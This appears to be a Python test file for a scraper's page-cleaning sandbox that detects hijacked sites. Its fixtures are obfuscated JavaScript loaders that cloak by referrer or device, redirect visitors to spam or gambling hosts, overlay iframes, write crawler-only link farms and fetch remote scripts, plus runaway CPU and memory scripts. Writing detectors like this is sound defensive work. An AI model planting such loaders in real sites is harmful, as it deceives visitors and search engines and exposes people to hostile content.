"""Scripts judged by what they do when run for different visitors (v3 misses 1.A, false flag FF-H2):
each loader below is written in a form the text readers never saw; normal scripts stay unflagged,
hostile ones stay within the sandbox's budget."""
from __future__ import annotations

import base64
import time

from scraper.clean import clean_page
from scraper.clean.sandbox import PAGE_SECONDS, run_scripts
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page

SPAM = "https://www.lucky-hall88.vip/in?c=7"


def cleaned(code: str):
    return clean_page(page(head=f"<script>{code}</script>"), url=URL)


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def test_string_array_read_through_an_accessor_with_an_offset():
    words = ["userAgent", "test", "location", "replace", SPAM, "navigator", "referrer"]
    table = ",".join(f"'{escaped(w)}'" for w in words)
    code = (f"var _k9=[{table}];function _r(i){{return _k9[i-0x1c0]}}"
            "var d=document,w=window;"
            "if(/Android|iPhone/i[_r(0x1c1)](w[_r(0x1c5)][_r(0x1c0)])&&d[_r(0x1c6)])"
            "{w[_r(0x1c2)][_r(0x1c3)](_r(0x1c4))}")
    a = cleaned(code)
    assert {"js_cloak", "js_redirect"} <= kinds(a)
    assert any("lucky-hall88.vip" in f.evidence for f in a.findings if f.kind == "js_redirect")


def test_shuffled_alphabet_base64_written_as_an_overlay_for_search_visitors():
    alphabet = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm9876543210+/"
    std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    overlay = (f'<iframe src="{SPAM}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">'
               "</iframe>")
    encoded = base64.b64encode(overlay.encode()).decode().rstrip("=").translate(str.maketrans(std, alphabet))
    code = (f"function dx(s){{var k='{alphabet}',o='',b=0,n=0;for(var i=0;i<s.length;i++){{"
            "b=(b<<6)|k.indexOf(s.charAt(i));n+=6;if(n>=8){n-=8;o+=String.fromCharCode((b>>n)&255)}}return o}"
            "if(/baidu|sogou|so\\.com|sm\\.cn/.test(document.referrer)){var o=dx('" + encoded + "');"
            "document.write(decodeURIComponent(escape(o)))}")
    a = cleaned(code)
    assert "js_cloak" in kinds(a)
    assert any("lucky-hall88.vip" in f.evidence for f in a.findings)


def test_concatenated_address_in_a_variable_replaced_after_a_timeout():
    code = ("var u='ht'+'tps://www.'+'lucky-hall88'+'.vip/in?c=7';var r=document.referrer;"
            "if(r.indexOf('baidu')>-1||r.indexOf('sogou')>-1){setTimeout(function(){location.replace(u)},300)}")
    a = cleaned(code)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_every_other_character_decoder_feeding_a_script_src_for_desktop_visitors():
    def junk(s: str) -> str:
        return "".join("z" + c for c in s)
    code = ("function vz(s){var o='';for(var i=0;i<s.length;i++){if(i%2)o+=s.charAt(i)}return o}"
            "var ua=navigator.userAgent,ref=document.referrer;"
            "if(/Windows NT|Macintosh/.test(ua)&&ref&&ref.split('/')[2]!=location.hostname"
            "&&!localStorage.getItem('_v')){localStorage.setItem('_v',1);var s=document.createElement('script');"
            f"s.src=vz('{junk('https://js.fuyun-cdn3.top/p.js')}');document.body.appendChild(s)}}")
    a = cleaned(code)
    assert {"js_cloak", "spam_script"} <= kinds(a)
    assert any("fuyun-cdn3.top" in f.evidence for f in a.findings if f.kind == "spam_script")


def test_substitution_cipher_before_base64_run_through_new_function():
    payload = ("if(/baidu|google|bing/.test(document.referrer)&&!/Windows/.test(navigator.userAgent))"
               f"{{top.location.href='{SPAM}'}}")
    plain = base64.b64encode(payload.encode()).decode()
    src, dst = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"
    ciphered = plain.translate(str.maketrans(src, dst))
    code = (f"var a1='fromCharCode',m={{}},p='{dst}',q='{src}';for(var i=0;i<p.length;i++)m[p.charAt(i)]=q.charAt(i);"
            f"var t='{ciphered}'.split('').map(function(c){{return m[c]||c}}).join('');"
            "new Function(decodeURIComponent(escape(atob(t))))();")
    a = cleaned(code)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_meta_refresh_built_by_a_script_for_phones():
    code = ("if(/Android|iPhone|iPad/i.test(navigator.userAgent)){var m=document.createElement('meta');"
            f"m['httpEquiv']='refresh';m['content']='0;url={SPAM}';"
            "document.getElementsByTagName('head')[0].appendChild(m)}")
    a = cleaned(code)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_link_farm_written_only_for_the_spider():
    links = "".join(f"<a href=\\'https://www.hall{i}-bet.top/\\'>site {i}</a>" for i in range(8))
    code = f"if(/spider|bot/i.test(navigator.userAgent)){{document.write('<div>{links}</div>')}}"
    a = cleaned(code)
    assert a.hijacked
    assert "js_cloak" in kinds(a)



def test_a_redirect_that_first_stops_the_page_loading_still_runs():
    # window.stop() is a browser's own; the fake browser lacked it, so such a script threw before it navigated
    # (v38 B4, rc38b-011: window.stop();var l=String.fromCharCode(…);window.location.replace(l))
    codes = ",".join(str(ord(c)) for c in SPAM)
    a = cleaned(f"window.stop();var l=String.fromCharCode({codes});window.location.replace(l);document.location.href=l;")
    assert "js_redirect" in kinds(a)
    assert any("lucky-hall88.vip" in f.evidence for f in a.findings if f.kind == "js_redirect")

def test_mobile_redirect_to_the_sites_own_mobile_host_is_normal():
    code = ("if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){"
            "window.location.href='https://m.'+location.hostname.replace(/^www\\./,'')+location.pathname}")
    for url in (URL, "http://127.0.0.1:8000/mirror/2.htm", None):  # its own host, a local mirror, no URL
        a = clean_page(page(head=f"<script>{code}</script>"), url=url)
        assert not a.hijacked, (url, a.findings)


def test_analytics_and_bot_excluded_widgets_are_normal():
    code = ("var _hmt=_hmt||[];(function(){var hm=document.createElement('script');"
            "hm.src='https://hm.baidu.com/hm.js?0123456789abcdef';var s=document.getElementsByTagName('script')[0];"
            "s.parentNode.insertBefore(hm,s)})();"
            "if(!/bot|spider|crawl/i.test(navigator.userAgent)){var w=document.createElement('script');"
            "w.src='https://widget.chat-desk.io/w.js?r='+encodeURIComponent(document.referrer);document.head.appendChild(w)}"
            "if(/Android|iPhone/.test(navigator.userAgent)){var ad=document.createElement('script');"
            "ad.src='https://m.ads-serve.com/tag.js'}else{var ad=document.createElement('script');"
            "ad.src='https://www.ads-serve.com/tag.js'}document.head.appendChild(ad)")
    a = cleaned(code)
    assert not a.hijacked, a.findings


def test_hostile_scripts_stay_within_the_budget_and_do_not_blind_the_sandbox():
    loop = "var n=0;while(true){n++}"
    alloc = "var a=[];while(true){a.push(new Array(1e6).fill(7))}"
    strings = "var s='x';while(true){s=s+s}"
    loader = ("if(document.referrer.indexOf('baidu')>-1){location.href='ht'+'tps://www.lucky-hall88'+'.vip/'}")
    # CPU time, as the sandbox's budget is: wall time at load 18 took 7.2 s here (session 29), CPU stays near the budget
    start = time.process_time()
    run = run_scripts([(0, loop), (1, alloc), (2, strings), (3, loader)], URL)
    took = time.process_time() - start
    assert took < 10 * PAGE_SECONDS  # generous: the budget itself is PAGE_SECONDS
    assert run.ran <= {3}
    start = time.process_time()
    a = clean_page(page(head="".join(f"<script>{c}</script>" for c in (loop, alloc, loader))), url=URL)
    assert time.process_time() - start < 20 * PAGE_SECONDS
    assert "js_redirect" in kinds(a)


def test_code_loaded_only_for_phones_a_search_engine_did_not_send():
    code = ("var p=navigator.platform,os={win:p.indexOf('Win')==0,mac:p.indexOf('Mac')==0,lin:p.indexOf('Linux')==0};"
            "var se=/\\.(baidu|sogou|so|bing)\\.com\\//;if(!os.win&&!os.mac&&!os.lin&&!se.test(document.referrer)){"
            "var s=document.createElement('script');s.src=['https://','cdn.','qp-load8','.top/k/1'].join('');"
            "document.body.appendChild(s)}")
    a = cleaned(code)
    assert {"js_cloak", "spam_script"} <= kinds(a)


def test_loader_that_acts_on_a_share_of_visits_by_the_hour():
    code = ("var p=[.1,.1,.1,.1,.1,.1,.2,.3,.5,.5,.5,.4,.6,.6,.5,.5,.5,.6,.8,.9,.9,.9,.7,.3];"
            "if(/baidu|sogou/.test(document.referrer)&&Math.random()<p[new Date().getHours()]){"
            "var f=document.createElement('iframe');f.src='https://www.'+'lucky-hall88.vip/';document.body.appendChild(f)}")
    a = cleaned(code)
    assert {"js_cloak", "spam_script"} <= kinds(a)
